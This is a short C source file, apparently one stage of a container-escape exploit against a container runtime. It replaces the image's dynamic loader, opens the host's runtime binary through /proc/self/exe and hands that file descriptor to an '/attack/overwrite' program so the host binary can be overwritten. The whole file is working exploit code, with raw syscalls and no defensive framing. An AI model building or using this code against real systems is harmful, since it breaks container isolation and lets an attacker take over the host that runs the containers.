/* SPDX-License-Identifier: MIT */

/*
 * Inside of a container: what stands in the image in place of the dynamic loader (S1)
 *
 * When a container makes its runtime execute /proc/self/exe, the kernel loads the host's program
 * and then this: it keeps that program open and becomes `overwrite`. No library works here, because
 * what it would find in memory is the host's program.
 */

#include <fcntl.h>
#include <stddef.h>
#include <sys/syscall.h>

static long call(long number, long a, long b, long c)
{
    long result = 0;

    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(number), "D"(a), "S"(b), "d"(c)
                     : "rcx", "r11", "memory");
    return result;
}

void _start(void);

__attribute__((noreturn, force_align_arg_pointer)) void _start(void)
{
    char path[] = "/proc/self/exe", program[] = "/attack/overwrite", held[] = "held";
    char text[] = "00";
    char *argv[] = { program, held, text, NULL };
    long fd = call(SYS_open, (long)path, O_PATH, 0);

    text[0] = (char)('0' + fd / 10);
    text[1] = (char)('0' + fd % 10);
    if (fd >= 0)
        call(SYS_execve, (long)program, (long)argv, 0);
    for (;;)
        call(SYS_exit_group, 99, 0, 0);
}
